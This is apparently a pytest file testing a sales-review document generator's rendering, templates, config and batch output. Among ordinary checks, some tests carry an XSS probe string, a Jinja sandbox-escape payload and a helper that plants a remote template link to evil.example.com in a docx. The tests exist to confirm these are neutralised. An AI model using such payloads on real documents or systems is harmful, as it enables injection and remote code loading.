"""`qsrkit render`: the document a user opens, checked by its content (text, tables, numbers)."""

from __future__ import annotations

import json
import os
import re
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from conftest import EXAMPLE, ROOT
from docx.enum.text import WD_ALIGN_PARAGRAPH

DOCX = "avery-quinn-2026-Q4-qsr.docx"
SECTIONS = (
    "Section 1 — Previous quarter reflection",
    "Section 2 — CRM and data pledge",
    "Section 3 — Skill development",
    "Section 4 — Current quarter plan",
)


def texts(document: docx.document.Document) -> list[str]:
    return [p.text for p in document.paragraphs]


def table_after(document: docx.document.Document, first_header: str, n: int = 0) -> list[list[str]]:
    found = [t for t in document.tables if t.rows[0].cells[0].text == first_header]
    return [[c.text for c in row.cells] for row in found[n].rows]


def table_with(document: docx.document.Document, header: list[str]) -> list[list[str]]:
    for table in document.tables:
        rows = [[c.text for c in row.cells] for row in table.rows]
        if rows[0] == header:
            return rows
    raise AssertionError(f"no table with header {header}")


def rows_by_label(rows: list[list[str]]) -> dict[str, list[str]]:
    return {row[0]: row[1:] for row in rows[1:]}


@pytest.fixture
def rendered(run, in_tmp: Path) -> docx.document.Document:
    result = run("render", EXAMPLE)
    assert result.exit_code == 0, result
    assert DOCX in result.stdout
    return docx.Document(str(in_tmp / DOCX))


def write_answers(folder: Path, text: str, name: str = "answers.yaml") -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


# --- the example, section by section -----------------------------------------------------------


def test_opening(rendered) -> None:
    body = "\n".join(texts(rendered))
    assert rendered.paragraphs[0].text == "Quarterly Sales Review"
    assert rendered.paragraphs[0].style.name == "Title"
    for expected in ("Account executive: Avery Quinn", "Quarter: 2026-Q4",
                     "Prepared on: 2026-10-05", "Manager: Morgan Ellis",
                     "two or more champions close twice as often"):
        assert expected in body
    headings = [p.text for p in rendered.paragraphs if p.style.name.startswith("Heading")]
    for section in SECTIONS:
        assert section in headings


def test_section1_metrics_focus_skills_diagnosis(rendered) -> None:
    metrics = rows_by_label(table_with(rendered, ["Metric", "Goal", "Actual", "Attainment"]))
    assert metrics["Revenue against quota"] == ["$300,000", "$318,500", "106.2%"]
    assert metrics["Revenue against personal goal"] == ["$360,000", "$318,500", "88.5%"]
    # A rate against its goal reads as a difference in points: 22% - 25% = -3 pts.
    assert metrics["Win rate"] == ["25%", "22%", "−3 pts"]
    assert metrics["Average deal size"][:2] == ["$20,000", "$22,750"]
    skills = table_with(rendered, ["Focus skill", "Target result", "Actual"])
    assert skills[1][0] == "Multi-threading" and skills[2][0] == "Discovery"
    diagnosis = table_with(rendered, ["Replicate going forward", "Improve going forward"])
    assert len(diagnosis) == 4
    assert diagnosis[3] == ["Using customer stories from the same industry in first meetings",
                            "Asking for referrals at every closed-won handover"]


def test_section2_pledge_actions_are_bullets(rendered) -> None:
    table = next(t for t in rendered.tables if t.rows[0].cells[0].text == "Pledge")
    accuracy = table.rows[1].cells[1].paragraphs
    assert [p.text for p in accuracy] == [
        "Every open opportunity has a next step dated within the next 14 days",
        "Amounts match the latest proposal sent",
    ]
    assert all(p._p.pPr.numPr is not None for p in accuracy)  # real list bullets
    assert [r.cells[0].text for r in table.rows[1:]] == ["Accuracy", "Updates", "Forecasting"]


def test_section3_skill_development(rendered) -> None:
    rows = table_with(rendered, ["Goal", "Focus skill", "Target result and actions", "Actual"])
    assert rows[1][:2] == ["Raise win rate from 22% to 26%", "Negotiation"]
    assert rows[1][3] == "______"  # filled in during the quarter


def test_section4_dashboards_are_links(rendered) -> None:
    xml = rendered.element.xml
    assert "<w:hyperlink" in xml
    targets = {rel.target_ref for rel in rendered.part.rels.values() if rel.is_external}
    assert "https://crm.example.com/dashboards/ae-individual" in targets
    assert "https://crm.example.com/dashboards/clean-your-room" in targets


def test_section4_outlook_and_plays(rendered) -> None:
    outlook = rows_by_label(table_with(rendered, ["Metric", "This quarter"]))
    assert outlook["Quarter quota"] == ["$330,000"]
    assert outlook["Personal goal"] == ["$495,000"]
    assert outlook["Personal goal as % of quota"] == ["150%"]
    body = texts(rendered)
    start = body.index("Plays for this quarter")
    plays = [p for p in rendered.paragraphs[start + 1:] if p.text]
    assert plays[0].text == "Expand in the ten largest existing accounts"
    assert plays[1].text == "Map a second champion in each account by week 3"
    assert plays[0]._p.pPr.numPr is not None and plays[1]._p.pPr.numPr.ilvl.val == 1


def test_calculator_matches_qsrkit_calc(run, rendered) -> None:
    calc = run("calc", EXAMPLE)
    assert calc.exit_code == 0, calc
    # The terminal table: a title, the header, a rule, then "Label  cell  cell" rows.
    terminal = {
        parts[0]: parts[1:]
        for line in calc.stdout.splitlines()[3:]
        if (parts := re.split(r"\s{2,}", line.strip()))
    }
    rows = rows_by_label(table_with(
        rendered, ["Metric", "100% of quota", "150% of quota (personal goal)"]))
    labels = ["Target", "Closed won to date", "Win rate", "Gap to goal", "Pipeline needed",
              "Open pipeline", "Pipeline to create", "Average deal size", "Deals to close won",
              "Opportunities needed", "Weeks to work", "Opportunities per week",
              "Pipeline per week"]
    assert list(rows) == labels
    assert rows == terminal
    # quota 330,000, 24%, 22,000 deals, 11 weeks: 35 and 67 opportunities; 765,000 / 11 =
    # 69,545.45 a week, shown rounded up; 330,000 / 22,000 = 15 deals to close won.
    assert rows["Opportunities needed"] == ["35", "67"]
    assert rows["Pipeline per week"][0] == "$69,546"
    assert rows["Deals to close won"] == ["15", "23"]


def test_tables_headers_repeat_and_numbers_align_right(rendered) -> None:
    table = next(t for t in rendered.tables if t.rows[0].cells[0].text == "Metric")
    header = table.rows[0]._tr
    assert header.trPr is not None and header.trPr.find(docx.oxml.ns.qn("w:tblHeader")) is not None
    goal = table.rows[1].cells[1].paragraphs[0]
    label = table.rows[1].cells[0].paragraphs[0]
    assert goal.alignment == WD_ALIGN_PARAGRAPH.RIGHT
    assert label.alignment in (None, WD_ALIGN_PARAGRAPH.LEFT)
    assert all(run.bold for run in table.rows[0].cells[0].paragraphs[0].runs)


def test_header_footer_and_properties(rendered) -> None:
    section = rendered.sections[0]
    assert "Avery Quinn" in section.header.paragraphs[0].text
    assert "2026-Q4" in section.header.paragraphs[0].text
    footer_xml = section.footer._element.xml
    assert 'w:instr=" PAGE "' in footer_xml and "NUMPAGES" in footer_xml
    assert "Avery Quinn" in section.footer.paragraphs[0].text
    props = rendered.core_properties
    assert props.title == "Quarterly Sales Review — Avery Quinn — 2026-Q4"
    assert props.author == "Avery Quinn"


# --- what a seller types ---------------------------------------------------------------------

TRICKY = [
    "a | b * c # d < e & f > g",
    "**not bold** _not italic_ `not code` [not](http://a.link) ![no](image.png)",
    "# not a heading",
    "1. not a list",
    "- not a bullet",
    "&amp; stays &amp; and \\ stays \\",
    "🚀 emoji, accents: déjà vu, Ærøskøbing",
    "שלום עולם and مرحبا بالعالم",
    "<script>alert(1)</script>",
    "---",
]


def test_values_appear_exactly_as_typed(run, in_tmp: Path) -> None:
    lines = "\n".join(f"      - {json.dumps(t, ensure_ascii=False)}" for t in TRICKY[:3])
    improve = "\n".join(f"      - {json.dumps(t, ensure_ascii=False)}" for t in TRICKY[3:6])
    plays = "\n".join(f"    - headline: {json.dumps(t, ensure_ascii=False)}" for t in TRICKY[6:9])
    text = (
        "schema_version: 1\naccount_executive: Zoë O'Brien-Nuñez\nquarter: 2026-Q4\n"
        "team_message: |-\n  First line | pipes\n  second line * stars\n"
        f"previous_quarter:\n  diagnosis:\n    replicate:\n{lines}\n    improve:\n{improve}\n"
        f"current_quarter:\n  plays:\n{plays}\n  dashboards:\n"
        f"    - title: {json.dumps(TRICKY[9])}\n      link: https://crm.example.com/a b?x=1&y=2\n"
    )
    source = write_answers(in_tmp, text)
    result = run("render", source)
    assert result.exit_code == 0, result
    document = docx.Document(str(in_tmp / "zoe-o-brien-nunez-2026-Q4-qsr.docx"))
    body = texts(document)
    assert "First line | pipes\nsecond line * stars" in body
    diagnosis = table_with(document, ["Replicate going forward", "Improve going forward"])
    assert [row[0] for row in diagnosis[1:]] == TRICKY[:3]
    assert [row[1] for row in diagnosis[1:]] == TRICKY[3:6]
    for headline in TRICKY[6:9]:
        assert headline in body
    assert any(p.startswith(TRICKY[9]) for p in body)
    rtl = next(p for p in document.paragraphs if p.text == TRICKY[7])
    assert any(r._r.rPr is not None and r._r.rPr.find(docx.oxml.ns.qn("w:rtl")) is not None
               for r in rtl.runs)
    assert "Zoë O'Brien-Nuñez" in document.sections[0].header.paragraphs[0].text


def test_half_filled_file_renders_with_blanks(run, in_tmp: Path) -> None:
    source = write_answers(in_tmp, "schema_version: 1\naccount_executive: Sam Ortiz\n"
                                   "current_quarter:\n  outlook:\n    quota: 250000\n")
    result = run("render", source)
    assert result.exit_code == 0, result
    document = docx.Document(str(in_tmp / "answers-qsr.docx"))  # no quarter: named after the file
    metrics = rows_by_label(table_with(document, ["Metric", "Goal", "Actual", "Attainment"]))
    assert metrics["Revenue against quota"] == ["$______", "$______", "___%"]
    calculator = rows_by_label(table_with(document, ["Metric", "100% of quota", "150% of quota"]))
    assert calculator["Target"] == ["$______", "$______"]
    assert calculator["Win rate"] == ["___%", "___%"]
    assert calculator["Opportunities needed"] == ["___", "___"]
    outlook = rows_by_label(table_with(document, ["Metric", "This quarter"]))
    assert outlook["Quarter quota"] == ["$250,000"]
    assert "Complete the outlook and calculator answers" in "\n".join(texts(document))


def test_blank_template(run, in_tmp: Path) -> None:
    result = run("render", "--blank")
    assert result.exit_code == 0, result
    document = docx.Document(str(in_tmp / "qsr-template.docx"))
    body = "\n".join(texts(document))
    assert "Account executive: ______" in body
    for section in SECTIONS:
        assert section in body
    skills = table_with(document, ["Focus skill", "Target result", "Actual"])
    assert skills[1:] == [["______"] * 3] * 2
    assert run("render", "--blank", EXAMPLE).exit_code == 2


def test_markdown_and_html(run, in_tmp: Path) -> None:
    assert run("render", EXAMPLE, "--format", "md").exit_code == 0
    markdown = (in_tmp / "avery-quinn-2026-Q4-qsr.md").read_text(encoding="utf-8")
    assert "| Revenue against quota | $300,000 | $318,500 | 106.2% |" in markdown
    assert "## Section 4 — Current quarter plan" in markdown
    assert run("render", EXAMPLE, "-f", "html", "-o", "preview.html").exit_code == 0
    html = (in_tmp / "preview.html").read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>")
    assert '<a href="https://crm.example.com/dashboards/ae-individual">' in html
    assert "<td style=\"text-align:right\">$1,175,000</td>" in html
    source = write_answers(in_tmp, "account_executive: \"<b>Lee</b> & co\"\nquarter: 2026-Q1\n")
    assert run("render", source, "-f", "html", "-o", "lee.html").exit_code == 0
    assert "&lt;b&gt;Lee&lt;/b&gt; &amp; co" in (in_tmp / "lee.html").read_text(encoding="utf-8")



def test_the_format_follows_the_output_name(run, in_tmp: Path) -> None:
    """`-o qsr.md` without `-f` writes Markdown (it wrote a .docx under the .md name);
    an extension that names no format, or none, keeps the default .docx; `-f` wins."""
    assert run("render", EXAMPLE, "-o", "qsr.md").exit_code == 0
    assert (in_tmp / "qsr.md").read_text(encoding="utf-8").startswith("# ")
    assert run("render", EXAMPLE, "-o", "preview.HTML").exit_code == 0
    assert (in_tmp / "preview.HTML").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    for name in ("qsr.txt", "qsr"):
        assert run("render", EXAMPLE, "-o", name).exit_code == 0
        assert zipfile.is_zipfile(in_tmp / name)
    assert run("render", EXAMPLE, "-f", "md", "-o", "notes.docx").exit_code == 0
    assert not zipfile.is_zipfile(in_tmp / "notes.docx")

# --- custom templates -------------------------------------------------------------------------


def test_template_typo_names_file_and_line(run, in_tmp: Path) -> None:
    folder = in_tmp / "tpl"
    folder.mkdir()
    (folder / "qsr.md.j2").write_text("# {{ label.title }}\n\n{{ rep }}\n{{ rep_name }}\n")
    result = run("render", EXAMPLE, "--templates", folder)
    assert result.exit_code == 3, result
    assert f"{folder / 'qsr.md.j2'}:4:" in result.stderr
    assert "rep_name" in result.stderr
    (folder / "qsr.md.j2").write_text("ok\n{% if rep %}\nunclosed\n")
    result = run("render", EXAMPLE, "--templates", folder)
    assert result.exit_code == 3, result
    assert "qsr.md.j2:" in result.stderr


def test_sandbox_blocks_attribute_escapes(run, in_tmp: Path) -> None:
    folder = in_tmp / "tpl"
    folder.mkdir()
    (folder / "qsr.md.j2").write_text("{{ rep.__class__.__mro__[1].__subclasses__() }}\n")
    result = run("render", EXAMPLE, "--templates", folder)
    assert result.exit_code == 3, result
    assert "unsafe" in result.stderr
    assert not list(in_tmp.glob("*.docx"))


def test_templates_export_then_render_with_them(run, in_tmp: Path) -> None:
    result = run("templates", "export", "ours")
    assert result.exit_code == 0, result
    template = in_tmp / "ours" / "qsr.md.j2"
    assert sorted(p.name for p in (in_tmp / "ours").iterdir()) == [
        "coaching.md.j2", "one_on_one.md.j2", "qsr.md.j2", "reference.docx", "team.md.j2",
        "tendencies.yaml"]
    assert run("templates", "export", "ours").exit_code == 4
    assert run("templates", "export", "ours", "--force").exit_code == 0
    template.write_text(template.read_text().replace("## {{ label.section2 }}",
                                                     "## Our data promise"))
    result = run("render", EXAMPLE, "--templates", "ours", "--format", "md")
    assert result.exit_code == 0, result
    assert "## Our data promise" in (in_tmp / "avery-quinn-2026-Q4-qsr.md").read_text()


# --- org config ----------------------------------------------------------------------------------


def test_org_config_currency_wording_targets_dashboards(run, in_tmp: Path) -> None:
    (in_tmp / "qsrkit.yaml").write_text(
        "company: Northwind\ncurrency: EUR\ntargets: [100, 120]\n"
        "team_message: From the config\n"
        "wording:\n  section2: Section 2 — Our data promise\n  win_rate: Hit rate\n"
        "dashboards:\n  - title: Team board\n    link: https://crm.example.com/team\n",
        encoding="utf-8",
    )
    source = write_answers(in_tmp, "account_executive: Sam\nquarter: 2026-Q4\n")
    result = run("render", source)
    assert result.exit_code == 0, result
    document = docx.Document(str(in_tmp / "sam-2026-Q4-qsr.docx"))
    body = "\n".join(texts(document))
    assert "Section 2 — Our data promise" in body and "From the config" in body
    assert "Team board" in body
    metrics = rows_by_label(table_with(document, ["Metric", "Goal", "Actual", "Attainment"]))
    assert metrics["Revenue against quota"][0] == "€______"
    assert "Hit rate" in metrics
    assert table_with(document, ["Metric", "100% of quota", "120% of quota"])
    assert "Northwind" in document.sections[0].header.paragraphs[0].text


def test_unknown_wording_key_is_an_error(run, in_tmp: Path) -> None:
    (in_tmp / "qsrkit.yaml").write_text("wording:\n  sectoin2: Typo\n", encoding="utf-8")
    result = run("render", EXAMPLE)
    assert result.exit_code == 3, result
    assert "sectoin2" in result.stderr and "section2" in result.stderr


# --- screenshots ---------------------------------------------------------------------------------


def png(width: int = 4, height: int = 3) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def test_screenshots_embedded_and_missing_ones_warned(run, in_tmp: Path) -> None:
    (in_tmp / "shots").mkdir()
    (in_tmp / "shots" / "board.png").write_bytes(png())
    source = write_answers(in_tmp, (
        "account_executive: Sam\nquarter: 2026-Q4\ncurrent_quarter:\n  dashboards:\n"
        "    - title: Board\n      link: https://crm.example.com/b\n      screenshot: shots/board.png\n"
        "    - title: Gone\n      link: https://crm.example.com/g\n      screenshot: shots/gone.png\n"
    ))
    os.chdir(in_tmp / "shots")  # screenshots are relative to the answers file, not the folder
    result = run("render", source, "-o", in_tmp / "sam.docx")
    assert result.exit_code == 0, result
    assert "gone.png" in result.stderr and "warning" in result.stderr
    document = docx.Document(str(in_tmp / "sam.docx"))
    assert len(document.inline_shapes) == 1
    body = "\n".join(texts(document))
    assert "Gone" in body and "https://crm.example.com/g" in body


# --- reference document ------------------------------------------------------------------------


ATTACHED = ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
            "attachedTemplate")


def company_reference(path: Path) -> Path:
    document = docx.Document()
    document.add_paragraph("SECRET BODY TEXT")
    section = document.sections[0]
    section.header.paragraphs[0].text = "ACME Corp — confidential"
    settings = document.part._settings_part.element
    r_id = document.part._settings_part.relate_to("http://evil.example.com/t.dotm",
                                              ATTACHED,
                                              is_external=True)
    settings.append(docx.oxml.parse_xml(
        f'<w:attachedTemplate xmlns:w="{docx.oxml.ns.nsmap["w"]}" '
        f'xmlns:r="{docx.oxml.ns.nsmap["r"]}" r:id="{r_id}"/>'))
    document.save(str(path))
    return path


def test_reference_doc_gives_styles_and_header_not_body(run, in_tmp: Path) -> None:
    reference = company_reference(in_tmp / "acme.docx")
    result = run("render", EXAMPLE, "--reference-doc", reference)
    assert result.exit_code == 0, result
    with zipfile.ZipFile(in_tmp / DOCX) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist())
    assert b"SECRET BODY TEXT" not in everything
    assert b"evil.example.com" not in everything and b"attachedTemplate" not in everything
    document = docx.Document(str(in_tmp / DOCX))
    assert document.sections[0].header.paragraphs[0].text == "ACME Corp — confidential"
    assert "Section 1 — Previous quarter reflection" in texts(document)
    assert table_with(document, ["Metric", "Goal", "Actual", "Attainment"])


@pytest.mark.parametrize("content", [None, b"not a zip", "not word", "no styles"])
def test_bad_reference_doc_is_a_clear_error(run, in_tmp: Path, content: bytes | str | None) -> None:
    reference = in_tmp / "ref.docx"
    if content == "not word":
        with zipfile.ZipFile(reference, "w") as archive:
            archive.writestr("hello.txt", "hi")
    elif content == "no styles":  # a real document whose styles part was taken out
        source = zipfile.ZipFile(ROOT / "templates" / "reference.docx")
        with zipfile.ZipFile(reference, "w") as archive:
            for name in source.namelist():
                data = source.read(name)
                if name == "word/_rels/document.xml.rels":
                    data = re.sub(rb'<Relationship Id="rId1"[^>]*/>', b"", data)
                if name != "word/styles.xml":
                    archive.writestr(name, data)
    elif content is not None:
        reference.write_bytes(content)  # type: ignore[arg-type]
    result = run("render", EXAMPLE, "--reference-doc", reference)
    assert result.exit_code == 3, result
    assert str(reference) in result.stderr
    if content == "no styles":
        assert "no styles" in result.stderr
    assert not (in_tmp / DOCX).exists()


# --- files and batches ---------------------------------------------------------------------------


def test_existing_file_is_not_replaced_without_force(run, in_tmp: Path) -> None:
    target = in_tmp / DOCX
    target.write_bytes(b"mine")
    result = run("render", EXAMPLE)
    assert result.exit_code == 4, result
    assert "--force" in result.stderr and target.read_bytes() == b"mine"
    assert run("render", EXAMPLE, "--force").exit_code == 0
    assert zipfile.is_zipfile(target)


def test_reproducible_bytes_with_source_date_epoch(run, in_tmp: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01T00:00:00Z
    assert run("render", EXAMPLE, "-o", "a.docx").exit_code == 0
    assert run("render", EXAMPLE, "-o", "b.docx").exit_code == 0
    first, second = (in_tmp / "a.docx").read_bytes(), (in_tmp / "b.docx").read_bytes()
    assert first == second
    document = docx.Document(str(in_tmp / "a.docx"))
    assert document.core_properties.created.year == 2026
    assert document.core_properties.created.month == 1
    with zipfile.ZipFile(in_tmp / "a.docx") as archive:
        assert {info.date_time for info in archive.infolist()} == {(2026, 1, 1, 0, 0, 0)}


def test_batch_goes_on_past_a_bad_file_and_lists_failures(run, in_tmp: Path) -> None:
    text = EXAMPLE.read_text(encoding="utf-8")
    good = [write_answers(in_tmp, text.replace("Avery Quinn", f"Rep {n}"), f"rep{n}.yaml")
            for n in (1, 2)]
    bad = write_answers(in_tmp, "account_executive: X\npreviuos_quarter: {}\n", "bad.yaml")
    result = run("render", good[0], bad, good[1], "--out-dir", "out")
    assert result.exit_code == 3, result
    assert (in_tmp / "out" / "rep-1-2026-Q4-qsr.docx").is_file()
    assert (in_tmp / "out" / "rep-2-2026-Q4-qsr.docx").is_file()
    assert "1 of 3 file(s) failed" in result.stderr
    assert "bad.yaml:2:1: previuos_quarter" in result.stderr


def test_batch_in_parallel_and_duplicate_names(run, in_tmp: Path) -> None:
    text = EXAMPLE.read_text(encoding="utf-8")
    files = [write_answers(in_tmp, text.replace("Avery Quinn", f"Rep {n}"), f"r{n}.yaml")
             for n in range(10)]
    shutil.copy(files[0], in_tmp / "again.yaml")
    result = run("render", *files, in_tmp / "again.yaml", "--out-dir", "team")
    assert result.exit_code == 4, result
    # r0.yaml and again.yaml are one rep and quarter: neither is written, the other nine are.
    written = sorted(p.name for p in (in_tmp / "team").glob("*.docx"))
    assert len(written) == 9 and "rep-0-2026-Q4-qsr.docx" not in written
    assert (f'team/rep-0-2026-Q4-qsr.docx would be written for both "{files[0]}" and '
            f'"{in_tmp / "again.yaml"}"; neither was written') in result.stderr


def test_output_options_clash(run, in_tmp: Path) -> None:
    assert run("render", EXAMPLE, EXAMPLE, "-o", "x.docx").exit_code == 2
    assert run("render").exit_code == 2
    assert run("render", EXAMPLE, "--format", "rtf").exit_code == 2


def test_example_org_config_renders(run, in_tmp: Path) -> None:
    config = EXAMPLE.parent / "config" / "qsrkit.yaml"
    result = run("render", EXAMPLE, "--config", config, "-f", "md")
    assert result.exit_code == 0, result
    markdown = (in_tmp / "avery-quinn-2026-Q4-qsr.md").read_text(encoding="utf-8")
    assert "## Section 2 — Pipeline hygiene pledge" in markdown
    assert markdown.count("dashboards/ae-individual>)") == 1  # config and answers list it once
